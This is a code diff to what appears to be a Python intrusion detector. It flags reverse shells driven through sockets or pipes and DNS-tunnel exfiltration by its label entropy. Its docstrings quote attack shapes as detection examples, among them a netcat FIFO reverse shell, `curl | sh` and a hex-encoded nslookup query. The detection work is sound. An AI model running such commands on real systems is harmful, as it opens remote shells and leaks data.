@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import ipaddress
+import math
 import re
 import zlib
 from collections.abc import Iterable
@@ -79,16 +80,35 @@ def reverse_shell(p: Proc) -> Threat | None:
     return None
 
 
-def socket_shells(procs: Iterable[Proc], conns: Iterable[Conn]) -> list[Threat]:
-    """Processes whose standard input or output is a TCP connection to another machine: a
-    shell (or any program) driven from the network, whatever its name, its arguments or its
-    port. What a reverse shell *is*, so a renamed bash on port 443 is one too; an agent's tools
-    talk to the network through sockets of their own, never through their stdio."""
-    peers = {
+# TCP states of a socket that has (or is getting, or still half has) a peer: a half-closed
+# connection (FIN_WAIT2 on the side that shut its writing, CLOSE_WAIT on the other) still
+# carries the attacker's commands one way. Not LISTEN, and TIME_WAIT/CLOSE hold no socket.
+PEER_STATES = frozenset(
+    {"ESTABLISHED", "SYN_SENT", "SYN_RECV", "FIN_WAIT1", "FIN_WAIT2", "CLOSE_WAIT", "CLOSING",
+     "LAST_ACK"}
+)  # fmt: skip
+
+
+def remote_sockets(conns: Iterable[Conn]) -> dict[int, Conn]:
+    """Socket inode -> connection, for every socket of the namespace with a peer on another
+    machine: TCP in any connected state (half-closed too), and connected UDP (a datagram
+    socket on a shell's stdio carries a session as well as a stream does)."""
+    return {
         c.inode: c
         for c in conns
-        if c.inode and c.proto == "tcp" and c.state == "ESTABLISHED" and not _loopback(c)
+        if c.inode
+        and ((c.proto == "tcp" and c.state in PEER_STATES) or c.proto == "udp")
+        and not _loopback(c)
     }
+
+
+def socket_shells(procs: Iterable[Proc], conns: Iterable[Conn]) -> list[Threat]:
+    """Processes whose standard input or output is a network socket to another machine (TCP
+    in any connected state, or connected UDP): a shell (or any program) driven from the
+    network, whatever its name, its arguments or its port. What a reverse shell *is*, so a
+    renamed bash on port 443 is one too; an agent's tools talk to the network through sockets
+    of their own, never through their stdio."""
+    peers = remote_sockets(conns)
     found = []
     for p in procs:
         for fd, target in sorted(p.stdio.items()):
@@ -112,15 +132,13 @@ def socket_shells(procs: Iterable[Proc], conns: Iterable[Conn]) -> list[Threat]:
 def pipe_shells(procs: Iterable[Proc], conns: Iterable[Conn]) -> list[Threat]:
     """A process fed from the network and talking back to it through pipes: `cat fifo | sh
     -i | nc host 443 > fifo`, `nc a | sh | nc b`. Its stdout (or stderr) is a pipe read by a
-    process that holds a remote TCP connection, and its stdin a pipe written by one that holds
-    one, or by one that has open a FIFO such a process writes to. Both directions: `curl | sh` (the
-    output on a terminal) and `make | nc` (the input from no network) are not this."""
+    process that holds a remote socket (TCP in any connected state: `nc a | sh | nc b` with
+    the first nc half-closed is one too; or connected UDP), and its stdin a pipe written by one
+    that holds one, or by one that has open a FIFO such a process writes to. Both directions:
+    `curl | sh` (the output on a terminal) and `make | nc` (the input from no network) are
+    not this."""
     procs = list(procs)
-    remote = {
-        c.inode
-        for c in conns
-        if c.inode and c.proto == "tcp" and c.state == "ESTABLISHED" and not _loopback(c)
-    }
+    remote = set(remote_sockets(conns))
     netted = {
         p.pid
         for p in procs
@@ -577,4 +595,67 @@ def dns_tunnel_names(names: Iterable[str], window: float) -> Threat | None:
                 {"dns": {"domain": domain, "names": len(subs), "chars": len(chars),
                          "bits_per_char": round(bits, 2), "sample": sorted(subs)[:5]}},
             )  # fmt: skip
+    return None
+
+
+# One query that carries data, and a slow drip of them: judged per label, at the packets.
+DATA_LABEL = 24  # characters from which a label may be data (hex of 12 bytes)
+LONG_LABEL = 40  # one such label this long is a query carrying data by itself
+DRIP_NAMES = 8  # distinct names under one domain with a data label, within DNS_WINDOW
+
+
+def _shannon(text: str) -> float:
+    counts: dict[str, int] = {}
+    for ch in text:
+        counts[ch] = counts.get(ch, 0) + 1
+    n = len(text)
+    return -sum(c / n * math.log2(c / n) for c in counts.values())
+
+
+def data_label(label: str) -> bool:
+    """A DNS label that looks like encoded data (hex, base32, base64url), not a host name:
+    24+ characters, no hyphen (names made of words or numbers are hyphenated:
+    `internal-my-lb-1234567890`, `ip-10-0-1-2`), letters and digits mixed (a word run
+    together has no digits) and close to the entropy of random characters (3.2+ bits each;
+    random hex of 24 characters is about 3.6, a repeated pattern much less)."""
+    if len(label) < DATA_LABEL or "-" in label:
+        return False
+    digits = sum(ch.isdigit() for ch in label)
+    return 0.1 <= digits / len(label) <= 0.9 and _shannon(label.lower()) >= 3.2
+
+
+def dns_data_query(name: str) -> Threat | None:
+    """One query whose name carries data by itself: a data label of 40+ characters (one
+    `nslookup <56 hex>.t.example` is a whole tunnel message; no lookup of a host has one)."""
+    for label in name.split(".")[:-2]:
+        if len(label) >= LONG_LABEL and data_label(label):
+            return Threat(
+                WARNING,
+                "dns",
+                "DNS tunnel-shaped query",
+                f"a query for {name[:120]}: a {len(label)}-character label of encoded data",
+                {"dns": {"name": name[:253], "length": len(label), "domain": split_name(name)[1]}},
+            )
+    return None
+
+
+def dns_drip(names: Iterable[str], window: float) -> Threat | None:
+    """A slow tunnel: DRIP_NAMES distinct names under one domain within `window` seconds,
+    each with a data label (24+ characters); under the tunnel rule's 20 names and the volume
+    rule's rate. A CDN's hosts are shorter or hyphenated; a cached name is asked once."""
+    by_domain: dict[str, set[str]] = {}
+    for name in names:
+        sub, domain = split_name(name)
+        if sub and any(data_label(label) for label in sub.split(".")):
+            by_domain.setdefault(domain, set()).add(sub)
+    for domain, subs in sorted(by_domain.items(), key=lambda kv: -len(kv[1])):
+        if len(subs) >= DRIP_NAMES:
+            return Threat(
+                WARNING,
+                "dns",
+                "DNS tunnel-shaped queries",
+                f"{len(subs)} distinct names under {domain} within {window:.0f} s, each with a "
+                "label of encoded data",
+                {"dns": {"domain": domain, "names": len(subs), "sample": sorted(subs)[:5]}},
+            )
     return None
